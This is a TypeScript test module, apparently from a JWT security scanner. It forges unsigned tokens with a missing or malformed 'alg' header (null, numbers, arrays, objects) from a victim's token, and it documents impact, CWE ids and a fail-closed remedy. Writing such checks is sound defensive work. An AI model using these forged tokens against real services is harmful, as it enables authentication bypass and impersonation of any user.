import { assemble, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

const shapes: readonly [name: string, header: object][] = [
  ['null', { alg: null }],
  ['empty text', { alg: '' }],
  ['number 0', { alg: 0 }],
  ['false', { alg: false }],
  ['array ["none"]', { alg: ['none'] }],
  ['number 1', { alg: 1 }],
  ['true', { alg: true }],
  ['empty array', { alg: [] }],
  ['array ["none", "HS256"]', { alg: ['none', 'HS256'] }],
  ['object with a toString', { alg: { toString: 'none' } }],
  ['blank', { alg: ' ' }],
  ['object', { alg: {} }],
]

export default tokenAttack({
  id: 'token/alg-missing',
  rows: [
    'token.alg-missing',
    'token.alg-missing.null',
    'token.alg-missing.empty',
    'token.alg-missing.number',
    'token.alg-missing.array',
    'token.alg-missing.object',
  ],
  title: 'An unsigned token whose header has no algorithm, or one that is no text',
  requirement: 'RFC 7515 section 4.1.1: alg MUST be present and be understood; RFC 8725 section 3.1',
  impact: 'A verifier that falls back to no check lets anyone become any user.',
  remedy: "Fail closed: jwt.verify(token, secret, { algorithms: ['HS256'] }) refuses what names no allowed algorithm.",
  severity: 'critical',
  cwe: ['CWE-843', 'CWE-347'],
  references: ['RFC 8725 section 3.1', 'RFC 7515 section 4.1.1'],
  provenBy: 'alg-default-none',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    const { alg: _, ...rest } = header
    return [
      { name: 'alg absent', token: assemble(rest, payload, '') },
      ...shapes.map(([name, alg]) => ({ name: `alg ${name}`, token: assemble({ ...header, ...alg }, payload, '') })),
    ]
  },
})
